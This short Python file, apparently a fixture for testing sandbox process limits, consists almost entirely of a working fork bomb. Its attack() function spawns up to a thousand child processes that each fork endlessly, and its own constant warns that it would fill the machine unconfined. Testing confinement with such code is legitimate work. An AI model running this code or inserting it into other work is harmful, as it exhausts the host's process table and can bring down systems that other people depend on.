"""Fill the process table: the first fork fails already."""

import os

UNCONFINED = "unsafe: it would fill this machine"


def attack(k):
    for made in range(1000):
        if os.fork() == 0:
            while True:
                os.fork()
    return "SUCCESS"
